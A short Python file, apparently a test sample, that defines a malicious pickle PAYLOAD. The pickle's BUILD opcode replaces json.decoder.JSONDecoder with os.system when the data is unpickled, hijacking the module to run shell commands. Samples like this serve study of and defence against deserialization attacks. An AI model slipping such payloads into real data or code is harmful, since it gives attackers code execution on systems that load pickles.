"""BUILD replaces what a module has."""

PAYLOAD = b"\x80\x04\x8c\x04json\x8c\x07decoder\x93}\x8c\x0bJSONDecoder\x8c\x02os\x8c\x06system\x93sb."
